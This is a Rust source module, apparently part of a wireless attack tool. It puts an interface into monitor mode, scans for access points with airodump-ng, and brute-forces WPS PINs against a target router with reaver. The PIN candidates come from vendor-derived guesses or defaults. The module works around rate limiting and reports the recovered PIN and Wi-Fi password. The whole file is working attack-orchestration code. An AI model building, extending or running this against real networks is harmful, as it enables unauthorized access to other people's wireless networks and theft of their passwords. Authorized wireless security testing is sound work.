/*!
 * Attack orchestrator
 *
 * State machine that owns the monitor-mode lifecycle and runs scans and PIN
 * attacks on top of it:
 *
 * ```text
 * Idle -> MonitorEnabling -> MonitorActive <-> Scanning
 *                                          <-> AttackRunning
 *         MonitorActive -> MonitorDisabling -> Idle
 * ```
 *
 * Every long operation is synchronous and meant to run on a background
 * worker (see `workers`). At most one is in flight; a second is rejected.
 * `stop()` may be called from any thread while one runs.
 */

use std::fmt;
use std::fs;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Condvar, Mutex, MutexGuard};
use std::time::{Duration, Instant};

use serde::{Deserialize, Serialize};
use tokio::sync::mpsc::UnboundedSender;
use tracing::{debug, info, warn};

use crate::core::address::HardwareAddress;
use crate::core::config::Config;
use crate::core::error::WpsError;
use crate::core::interface::{self, InterfaceState, MonitorResolver, RenamedOrSuffixed};
use crate::core::process::{CommandRunner, CommandSpec, ProcessSupervisor};
use crate::core::scan::{self, NetworkRecord};
use crate::core::session::{AttackSession, QueuedPin, SessionSnapshot, SessionStatus};
use crate::core::system;
use crate::core::vendor;
use crate::core::wps::{self, AttackOutcome, AttemptVerdict};

/// How often `stop()` re-checks (and re-cancels) while waiting
const STOP_SLICE: Duration = Duration::from_millis(100);

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum OrchestratorState {
    Idle,
    MonitorEnabling,
    MonitorActive,
    Scanning,
    AttackRunning,
    MonitorDisabling,
}

impl OrchestratorState {
    /// A worker is mid-operation
    pub fn is_busy(&self) -> bool {
        !matches!(self, OrchestratorState::Idle | OrchestratorState::MonitorActive)
    }
}

impl fmt::Display for OrchestratorState {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            OrchestratorState::Idle => "idle",
            OrchestratorState::MonitorEnabling => "enabling monitor mode",
            OrchestratorState::MonitorActive => "monitor active",
            OrchestratorState::Scanning => "scanning",
            OrchestratorState::AttackRunning => "attacking",
            OrchestratorState::MonitorDisabling => "disabling monitor mode",
        };
        f.write_str(s)
    }
}

/// Progress pushed to UI consumers
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum OrchestratorEvent {
    StateChanged(OrchestratorState),
    Log(String),
    AttemptStarted {
        index: usize,
        total: usize,
        pin: String,
    },
    AttemptFinished {
        index: usize,
        pin: String,
        success: bool,
    },
    NetworksFound(usize),
    Found {
        pin: String,
        password: Option<String>,
    },
}

/// Point-in-time view for status queries
#[derive(Debug, Clone, Serialize)]
pub struct OrchestratorStatus {
    pub state: OrchestratorState,
    pub interface: Option<InterfaceState>,
    pub operation: Option<String>,
    pub session: Option<SessionSnapshot>,
    pub networks: usize,
}

#[derive(Debug)]
struct Context {
    state: OrchestratorState,
    interface: Option<InterfaceState>,
    operation: Option<String>,
    session: Option<AttackSession>,
    networks: Vec<NetworkRecord>,
}

impl Context {
    fn settled_state(&self) -> OrchestratorState {
        if self.interface.is_some() {
            OrchestratorState::MonitorActive
        } else {
            OrchestratorState::Idle
        }
    }
}

pub struct AttackOrchestrator {
    config: Config,
    runner: Arc<dyn CommandRunner>,
    resolver: Box<dyn MonitorResolver>,
    events: Option<UnboundedSender<OrchestratorEvent>>,
    context: Mutex<Context>,
    settled: Condvar,
    cancel: AtomicBool,
}

impl AttackOrchestrator {
    pub fn new(config: Config, runner: Arc<dyn CommandRunner>) -> Self {
        Self {
            config,
            runner,
            resolver: Box::new(RenamedOrSuffixed),
            events: None,
            context: Mutex::new(Context {
                state: OrchestratorState::Idle,
                interface: None,
                operation: None,
                session: None,
                networks: Vec::new(),
            }),
            settled: Condvar::new(),
            cancel: AtomicBool::new(false),
        }
    }

    /// Orchestrator driving real processes, tuned from `config.process`
    pub fn from_config(config: Config) -> Self {
        let supervisor = ProcessSupervisor::new(
            config.process.poll_interval(),
            config.process.termination_grace(),
        )
        .with_command_timeout(config.process.command_timeout());
        Self::new(config, Arc::new(supervisor))
    }

    pub fn with_resolver(mut self, resolver: impl MonitorResolver + 'static) -> Self {
        self.resolver = Box::new(resolver);
        self
    }

    pub fn with_events(mut self, tx: UnboundedSender<OrchestratorEvent>) -> Self {
        self.events = Some(tx);
        self
    }

    pub fn config(&self) -> &Config {
        &self.config
    }

    fn lock(&self) -> MutexGuard<'_, Context> {
        self.context.lock().unwrap_or_else(|e| e.into_inner())
    }

    fn emit(&self, event: OrchestratorEvent) {
        if let Some(tx) = &self.events {
            let _ = tx.send(event);
        }
    }

    fn log(&self, message: impl Into<String>) {
        let message = message.into();
        info!("{}", message);
        self.emit(OrchestratorEvent::Log(message));
    }

    fn transition(&self, ctx: &mut Context, state: OrchestratorState) {
        if ctx.state != state {
            debug!("State {} -> {}", ctx.state, state);
            ctx.state = state;
            self.emit(OrchestratorEvent::StateChanged(state));
        }
    }

    fn check_privileges(&self, what: &str) -> Result<(), WpsError> {
        if self.config.monitor.require_root && !system::is_root() {
            return Err(WpsError::PermissionDenied(what.to_string()));
        }
        Ok(())
    }

    /// Return to the hub state and wake anyone waiting in `stop()`
    fn settle(&self) {
        let mut ctx = self.lock();
        let state = ctx.settled_state();
        ctx.operation = None;
        ctx.session = None;
        self.transition(&mut ctx, state);
        self.settled.notify_all();
    }

    pub fn status(&self) -> OrchestratorStatus {
        let ctx = self.lock();
        OrchestratorStatus {
            state: ctx.state,
            interface: ctx.interface.clone(),
            operation: ctx.operation.clone(),
            session: ctx.session.as_ref().map(AttackSession::snapshot),
            networks: ctx.networks.len(),
        }
    }

    pub fn state(&self) -> OrchestratorState {
        self.lock().state
    }

    /// Networks from the most recent scan
    pub fn networks(&self) -> Vec<NetworkRecord> {
        self.lock().networks.clone()
    }

    pub fn get_interfaces(&self) -> Result<Vec<String>, WpsError> {
        interface::list_wireless_interfaces(self.runner.as_ref(), &self.config.tools)
    }

    /// Switch the first wireless interface to monitor mode
    pub fn enable_monitor(&self) -> Result<InterfaceState, WpsError> {
        {
            let mut ctx = self.lock();
            if ctx.state != OrchestratorState::Idle {
                return Err(WpsError::InvalidTransition {
                    operation: "enable monitor mode",
                    state: ctx.state,
                });
            }
            self.check_privileges("enable monitor mode")?;

            self.cancel.store(false, Ordering::SeqCst);
            ctx.operation = Some("Enabling monitor mode".to_string());
            self.transition(&mut ctx, OrchestratorState::MonitorEnabling);
        }

        let result = interface::enable_monitor_mode(
            self.runner.as_ref(),
            &self.config.tools,
            &self.config.monitor,
            self.resolver.as_ref(),
            &self.cancel,
        );

        match &result {
            Ok(state) => {
                self.lock().interface = Some(state.clone());
                self.log(format!("Monitor mode enabled on {}", state.monitor));
            }
            Err(e) => warn!("Failed to enable monitor mode: {}", e),
        }

        self.settle();
        result
    }

    /// Return the interface to managed mode; a no-op when already idle
    pub fn disable_monitor(&self) -> Result<(), WpsError> {
        let state = {
            let mut ctx = self.lock();
            match ctx.state {
                OrchestratorState::Idle => return Ok(()),
                OrchestratorState::MonitorActive => {}
                busy => return Err(WpsError::Busy(busy.to_string())),
            }

            let Some(state) = ctx.interface.take() else {
                self.transition(&mut ctx, OrchestratorState::Idle);
                return Ok(());
            };
            ctx.operation = Some("Disabling monitor mode".to_string());
            self.transition(&mut ctx, OrchestratorState::MonitorDisabling);
            state
        };

        let result = interface::disable_monitor_mode(
            self.runner.as_ref(),
            &self.config.tools,
            &self.config.monitor,
            &state,
        );

        match &result {
            Ok(()) => self.log(format!("Monitor mode disabled on {}", state.managed)),
            Err(e) => {
                // Still in monitor mode as far as we know; keep it so the caller can retry
                warn!("Failed to disable monitor mode: {}", e);
                self.lock().interface = Some(state);
            }
        }

        self.settle();
        result
    }

    /// Guard shared by `scan` and `attack`; returns the monitor interface
    fn begin(
        &self,
        operation: &str,
        state: OrchestratorState,
        description: String,
    ) -> Result<String, WpsError> {
        let mut ctx = self.lock();
        match ctx.state {
            OrchestratorState::MonitorActive => {}
            OrchestratorState::Scanning | OrchestratorState::AttackRunning => {
                let current = ctx.operation.clone().unwrap_or_else(|| ctx.state.to_string());
                return Err(WpsError::Busy(current));
            }
            _ => return Err(WpsError::MonitorModeRequired),
        }

        let iface = match &ctx.interface {
            Some(state) if state.active => state.monitor.clone(),
            _ => return Err(WpsError::MonitorModeRequired),
        };
        self.check_privileges(operation)?;
        if self.runner.is_busy() {
            return Err(WpsError::Busy("external process still running".to_string()));
        }

        self.cancel.store(false, Ordering::SeqCst);
        ctx.operation = Some(description);
        self.transition(&mut ctx, state);
        Ok(iface)
    }

    fn cancelled(&self) -> bool {
        self.cancel.load(Ordering::SeqCst)
    }

    /// Capture for `duration` and return the access points seen
    pub fn scan(&self, duration: Duration) -> Result<Vec<NetworkRecord>, WpsError> {
        let iface = self.begin(
            "scan",
            OrchestratorState::Scanning,
            format!("Scanning for {}s", duration.as_secs()),
        )?;

        let result = self.run_scan(&iface, duration);
        if let Ok(networks) = &result {
            self.lock().networks = networks.clone();
            self.emit(OrchestratorEvent::NetworksFound(networks.len()));
        }

        self.settle();
        result
    }

    fn run_scan(&self, iface: &str, duration: Duration) -> Result<Vec<NetworkRecord>, WpsError> {
        let scan_cfg = &self.config.scan;
        fs::create_dir_all(&scan_cfg.output_dir)?;
        // Stale exports from an earlier run would win the newest-file lookup
        scan::cleanup_exports(&scan_cfg.output_dir, &scan_cfg.output_prefix)?;

        self.log(format!("Scanning on {} for {}s", iface, duration.as_secs()));
        let spec = scan::capture_command(&self.config.tools, scan_cfg, iface);
        let output = self.runner.run(&spec, duration)?;

        if output.cancelled || self.cancelled() {
            info!("Scan cancelled");
            return Err(WpsError::Cancelled);
        }
        if !output.timed_out && !output.success() {
            warn!(
                "{} exited early with {:?}: {}",
                spec.program,
                output.status,
                output.stderr.trim()
            );
        }

        let networks = match scan::latest_export(&scan_cfg.output_dir, &scan_cfg.output_prefix)? {
            Some(path) => scan::parse_file(&path)?,
            None => {
                warn!("No capture export found in {}", scan_cfg.output_dir.display());
                Vec::new()
            }
        };

        if scan_cfg.cleanup {
            scan::cleanup_exports(&scan_cfg.output_dir, &scan_cfg.output_prefix)?;
        }

        self.log(format!("Found {} networks", networks.len()));
        Ok(networks)
    }

    /// Candidate queue: vendor suggestions, else the configured defaults
    fn candidate_queue(&self, bssid: &HardwareAddress) -> Vec<QueuedPin> {
        let suggested: Vec<QueuedPin> = vendor::suggested(bssid)
            .into_iter()
            .map(|c| QueuedPin {
                pin: c.pin,
                source: c.name,
            })
            .collect();

        let queue = if suggested.is_empty() {
            self.config
                .attack
                .default_pins
                .iter()
                .map(|pin| QueuedPin {
                    pin: pin.clone(),
                    source: "Default PIN".to_string(),
                })
                .collect()
        } else {
            suggested
        };

        queue.into_iter().take(self.config.attack.max_attempts).collect()
    }

    /// Try candidate PINs against `bssid` until one works or the budget runs out
    pub fn attack(&self, bssid: &str, essid: Option<&str>) -> Result<AttackOutcome, WpsError> {
        let target = HardwareAddress::parse(bssid)?;
        let iface = self.begin(
            "attack",
            OrchestratorState::AttackRunning,
            format!("Attacking {}", essid.unwrap_or(target.as_str())),
        )?;

        let result = self.run_attack(&iface, target, essid.map(str::to_string));
        self.settle();
        result
    }

    fn publish(&self, session: &AttackSession) {
        self.lock().session = Some(session.clone());
    }

    fn run_attack(
        &self,
        iface: &str,
        target: HardwareAddress,
        essid: Option<String>,
    ) -> Result<AttackOutcome, WpsError> {
        let attack_cfg = &self.config.attack;
        let queue = self.candidate_queue(&target);
        let total = queue.len();
        let mut session = AttackSession::new(target, essid, queue, attack_cfg.session_timeout());
        self.publish(&session);
        self.log(format!("Attacking {} with {} candidate PINs", session.bssid, total));

        for index in 0..total {
            if self.cancelled() {
                session.finish(SessionStatus::Cancelled);
                break;
            }
            if session.is_expired() {
                session.finish(SessionStatus::TimedOut);
                break;
            }

            session.current = index;
            let candidate = session.queue[index].clone();
            if candidate.pin.is_empty() {
                debug!("Skipping empty candidate from {}", candidate.source);
                self.publish(&session);
                continue;
            }

            session.attempts += 1;
            self.publish(&session);
            self.emit(OrchestratorEvent::AttemptStarted {
                index,
                total,
                pin: candidate.pin.clone(),
            });
            info!("Trying PIN {} ({})", candidate.pin, candidate.source);

            let spec = wps::reaver_command(
                &self.config.tools,
                attack_cfg,
                iface,
                session.bssid.as_str(),
                &candidate.pin,
            );
            let timeout = session.attempt_timeout(attack_cfg.attempt_timeout());

            let output = match self.runner.run(&spec, timeout) {
                Ok(output) => output,
                Err(e @ (WpsError::ToolMissing(_) | WpsError::PermissionDenied(_))) => {
                    session.record_failure(e.to_string());
                    session.finish(SessionStatus::Exhausted);
                    return Err(e);
                }
                Err(e) => {
                    warn!("Attempt with PIN {} failed: {}", candidate.pin, e);
                    session.record_failure(e.to_string());
                    self.publish(&session);
                    continue;
                }
            };

            if output.cancelled || self.cancelled() {
                session.finish(SessionStatus::Cancelled);
                break;
            }

            let verdict = if output.timed_out {
                let err = WpsError::ProcessTimeout {
                    program: spec.program.clone(),
                    after: timeout,
                };
                warn!("{}", err);
                session.record_failure(err.to_string());
                AttemptVerdict::Failed
            } else {
                wps::analyze_attempt(&output.combined())
            };

            let success = matches!(verdict, AttemptVerdict::Success { .. });
            self.emit(OrchestratorEvent::AttemptFinished {
                index,
                pin: candidate.pin.clone(),
                success,
            });

            match verdict {
                AttemptVerdict::Success { pin, password } => {
                    let pin = pin.unwrap_or(candidate.pin);
                    session.finish(SessionStatus::Succeeded);
                    self.publish(&session);
                    self.log(format!("WPS PIN found: {}", pin));
                    self.emit(OrchestratorEvent::Found {
                        pin: pin.clone(),
                        password: password.clone(),
                    });
                    return Ok(AttackOutcome::found(pin, password, session.attempts));
                }
                AttemptVerdict::RateLimited => {
                    warn!("AP rate limiting detected on PIN {}", candidate.pin);
                    session.record_failure("AP rate limiting detected");
                }
                AttemptVerdict::Failed if !output.timed_out => {
                    session.record_failure(format!("PIN {} rejected", candidate.pin));
                }
                AttemptVerdict::Failed => {}
            }
            self.publish(&session);
        }

        session.finish(SessionStatus::Exhausted);
        self.publish(&session);

        let message = match session.status {
            SessionStatus::Cancelled => "Attack cancelled",
            SessionStatus::TimedOut => "Attack session timed out",
            _ => "All PIN attempts failed",
        };
        self.log(message);
        Ok(AttackOutcome::failed(session.status, message, session.attempts))
    }

    /// Cancel whatever is running and wait for the worker to settle
    ///
    /// Returns the state once settled (or when the wait gives up).
    pub fn stop(&self) -> OrchestratorState {
        {
            let ctx = self.lock();
            if ctx.state == OrchestratorState::Idle {
                return OrchestratorState::Idle;
            }
            info!("Stopping {}", ctx.operation.as_deref().unwrap_or("orchestrator"));
        }

        self.cancel.store(true, Ordering::SeqCst);
        self.runner.cancel();
        self.kill_strays();

        let started = Instant::now();
        let limit = self.config.process.stop_wait();
        loop {
            let ctx = self.lock();
            if !ctx.state.is_busy() {
                return ctx.state;
            }
            let (ctx, _) = self
                .settled
                .wait_timeout(ctx, STOP_SLICE)
                .unwrap_or_else(|e| e.into_inner());
            if !ctx.state.is_busy() {
                return ctx.state;
            }
            if started.elapsed() >= limit {
                warn!("Gave up waiting for {} to stop", ctx.state);
                return ctx.state;
            }
            drop(ctx);
            // A process spawned after the first cancel still has to go
            self.runner.cancel();
        }
    }

    fn kill_strays(&self) {
        let tools = &self.config.tools;
        for program in [&tools.airodump_ng, &tools.reaver] {
            let spec = CommandSpec::new(&tools.pkill).args(["-f", program.as_str()]);
            if let Err(e) = self.runner.output(&spec) {
                debug!("{} failed: {}", spec, e);
            }
        }
    }
}
